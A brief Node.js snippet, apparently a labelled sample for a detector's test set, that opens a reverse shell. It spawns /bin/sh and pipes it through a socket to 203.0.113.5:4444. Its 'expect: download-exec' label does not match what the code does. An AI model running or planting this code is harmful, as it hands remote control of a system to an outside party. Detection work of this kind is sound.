// A socket piped into a shell: the network drives a process.
const net = require("net");
const { spawn } = require("child_process");
const sh = spawn("/bin/sh", []); // expect: download-exec
const client = net.connect(4444, "203.0.113.5", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
